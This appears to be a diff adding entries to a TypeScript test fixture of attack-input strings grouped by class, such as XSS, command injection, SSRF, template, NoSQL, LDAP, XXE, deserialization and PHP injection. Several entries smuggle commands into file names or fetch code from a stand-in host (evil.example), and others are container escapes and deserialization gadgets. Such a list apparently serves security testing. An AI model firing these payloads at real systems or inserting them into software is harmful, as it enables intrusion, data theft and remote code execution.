@@ -44,6 +44,9 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "x' collate nocase and 1=1--",
   ],
   xss: [
+    "<img name=cookie>",
+    "+ADwAIQ-ENTITY x SYSTEM +ACI-y+ACIAPg-",
+
     "<scRipt src=//evil.example/a></sCript>",
     "<img src=q onerror=steal()>",
     "<svg onload=steal()>",
@@ -92,6 +95,14 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "<!--[if gte IE 4]><b><![endif]-->",
   ],
   rce: [
+    "c^a^l^c",
+    "for /f %i in ('hostname') do echo %i",
+    "LD_PRELOAD=/tmp/q.so ls",
+    "docker run -v /:/mnt --rm alpine chroot /mnt",
+    "git -c core.sshCommand=q clone z",
+    "CreateObject('WScript.Shell').Run 'x'",
+    "ho$@stname",
+
     "a.pdf;wget http://evil.example/x",
     "a|curl http://evil.example/x",
     "x && whoami",
@@ -159,6 +170,11 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "/..../..../..../x",
   ],
   ssrf: [
+    "http://192.168.257/",
+    "redis://127.0.0.1:6379/",
+    "http://%6c%6f%63%61lhost/",
+    "http://db.corp.local/",
+
     "http://127.0.0.1:9/",
     "http://127.1/",
     "http://0/",
@@ -186,6 +202,11 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "http://localhost:6379/",
   ],
   ssti: [
+    "{% print(6*7) %}",
+    "{{ 'x'|exec }}",
+    "{{ request.getClass() }}",
+    "<cfexecute name=x>",
+
     "{{9*9}}",
     "${9*9}",
     "#{9*9}",
@@ -222,6 +243,19 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "x.getClass().forName('java.lang.Runtime')",
   ],
   nosql: [
+    '[{"$unionWith":"vault"}]',
+    "/_users/_all_docs?include_docs=true",
+    "' ALLOW FILTERING; --",
+    "'}) RETURN 1 UNION MATCH (n) RETURN n //",
+    "FOR u IN staff REMOVE u IN staff",
+    "x').drop().V('",
+    "query{__schema{types{name fields{name}}}}",
+    '") { id } staff { pin } #',
+    "name:x OR _exists_:password",
+    "{!func}_val_:'x'",
+    "tojson(this)",
+    "'+(function(){while(1);})()+'",
+
     "login[$ne]=x",
     '{"pass":{"$gt":""}}',
     "x'||'1'=='1",
@@ -230,7 +264,19 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "db.staff.drop()",
     "' && this.pass.match(/a/)//",
   ],
-  ldap: ["*)(uid=*))(|(uid=*", "x)(cn=*", "*)(|(mail=*", "admin)(&)", "(&(uid=ana)(userPassword=a*))", "*))%00"],
+  ldap: [
+    "admin)|(mail=q*",
+    "\\2a\\29\\28uid=\\2a",
+    "(memberOf:1.2.840.113556.1.4.1941:=CN=Admins,DC=x)",
+    "*)(1=*",
+    "staff)(:dn:2.5.13.2:=x",
+    "*)(uid=*))(|(uid=*",
+    "x)(cn=*",
+    "*)(|(mail=*",
+    "admin)(&)",
+    "(&(uid=ana)(userPassword=a*))",
+    "*))%00",
+  ],
   xpath: [
     "x' or count(//*)>0 or 'a'='b",
     "'] | //staff/*[",
@@ -238,6 +284,9 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "x' and string-length(//a[1])=3 and 'a'='a",
   ],
   crlf: [
+    "en\r\nX-Forwarded-Host: evil.example",
+    "x\u2028Set-Cookie: a=1",
+
     "x%0d%0aSet-Cookie:a=b",
     "x\r\nLocation: //evil.example",
     "%0aRefresh:0",
@@ -246,6 +295,11 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "%0d%0a%0d%0a<b>x",
   ],
   xxe: [
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/a.dtd">',
+    "<xs:import namespace='x' schemaLocation='http://evil.example/a.xsd'/>",
+    "<D:propfind><D:x>&e;</D:x></D:propfind>",
+    "%remote;",
+
     '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY w SYSTEM "file:///x">]><q>&w;</q>',
     '<!DOCTYPE q SYSTEM "http://e/q.dtd">',
     "<!ENTITY % p SYSTEM 'http://e'>",
@@ -253,6 +307,10 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "<xsl:value-of select=\"document('file:///x')\"/>",
   ],
   deserialization: [
+    "jdbc:h2:mem:q;INIT=RUNSCRIPT FROM 'http://evil.example/q.sql'",
+    '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"x"}]',
+    "gAWVHAAAAAAAAACMAm50lA==",
+
     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC+A==",
     'O:5:"Order":1:{s:1:"a";i:1;}',
     "!!python/object/apply:os.system ['id']",
@@ -263,6 +321,9 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "cos\nsystem\n(S'id'\ntR.",
   ],
   "prototype-pollution": [
+    "/__proto__/admin",
+    '["__proto__","admin"]',
+
     "__proto__[x]=y",
     "constructor[prototype][x]=y",
     "a.__proto__.x=1",
@@ -270,6 +331,11 @@ export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     "Object.prototype.x = 1",
   ],
   php: [
+    "('system')('ls')",
+    "strrev('metsys')('ls')",
+    "__halt_compiler();",
+    "$q='system';$q('ls')",
+
     "<?php system('id');",
     "<?= `id` ?>",
     "eval(base64_decode('eA=='))",
